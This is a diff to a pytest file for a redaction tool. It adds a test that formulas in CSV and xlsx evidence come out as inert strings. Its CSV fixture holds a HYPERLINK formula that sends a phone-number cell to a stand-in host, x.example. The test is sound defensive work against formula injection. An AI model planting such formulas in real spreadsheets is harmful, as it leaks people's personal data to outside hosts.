@@ -14,7 +14,7 @@ from leaktrace.redact import _byvalue, _delimited, _xlsx, redact
 
 @pytest.fixture
 def marked(monkeypatch):
-    def out_cell(text: str, *, sheet: bool = False) -> str:
+    def out_cell(text: str, *, into: str) -> str:
         return "§" + text
 
     for module in (_delimited, _xlsx, _byvalue):
@@ -45,3 +45,28 @@ def test_every_xlsx_text_cell_goes_through_out_cell(evidence, tmp_path, marked):
     texts = [c for c in cells if isinstance(c, str)]
     assert texts and all(c.startswith("§") for c in texts), texts
     assert "§138****5678" in texts and 12.5 in cells  # numbers stay numbers
+
+
+def test_a_formula_in_the_evidence_is_never_live_in_the_copy(tmp_path):
+    from leaktrace.cells import restore_csv_cell
+
+    source = tmp_path / "list.csv"
+    source.write_text(
+        '姓名,手机,备注\n张伟,13812345678,"=HYPERLINK(""http://x.example/?""&B2,""点击"")"\n',
+        encoding="utf-8",
+    )
+    book_path = tmp_path / "list.xlsx"
+    import xlsxwriter
+
+    book = xlsxwriter.Workbook(str(book_path))
+    sheet = book.add_worksheet("S")
+    sheet.write_row(0, 0, ["姓名", "手机", "备注"])
+    sheet.write_row(1, 0, ["张伟", "13812345678"])
+    sheet.write_string(1, 2, "=1+1")
+    book.close()
+    redact([source, book_path], tmp_path / "out")
+    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "list.csv").read_text("utf-8"))))
+    assert rows[1][2].startswith("'=")
+    assert restore_csv_cell(rows[1][2]) == '=HYPERLINK("http://x.example/?"&B2,"点击")'
+    copy = CalamineWorkbook.from_path(str(tmp_path / "out" / "list.xlsx")).get_sheet_by_name("S")
+    assert copy.to_python()[1] == ["张*", "138****5678", "=1+1"]  # a string, not a formula
